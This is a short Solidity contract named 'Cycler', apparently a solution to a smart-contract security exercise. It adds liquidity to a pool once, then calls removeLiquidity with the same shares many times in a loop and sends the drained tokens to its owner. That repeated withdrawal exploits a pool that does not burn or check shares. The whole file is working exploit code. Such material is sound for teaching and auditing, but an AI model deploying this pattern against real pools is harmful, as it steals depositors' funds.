// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

import {Token} from "../_shared/Token.sol";

interface IPairPool {
    function addLiquidity(uint256 amountA, uint256 amountB) external returns (uint256);
    function removeLiquidity(uint256 shares) external returns (uint256, uint256);
}

contract Cycler {
    address immutable owner = msg.sender;

    function run(Token a, Token b, IPairPool pool, uint256 amount, uint256 rounds) external {
        a.approve(address(pool), amount);
        b.approve(address(pool), amount);
        uint256 shares = pool.addLiquidity(amount, amount);
        for (uint256 i = 0; i < rounds; i++) {
            pool.removeLiquidity(shares);
        }
        a.transfer(owner, a.balanceOf(address(this)));
        b.transfer(owner, b.balanceOf(address(this)));
    }
}
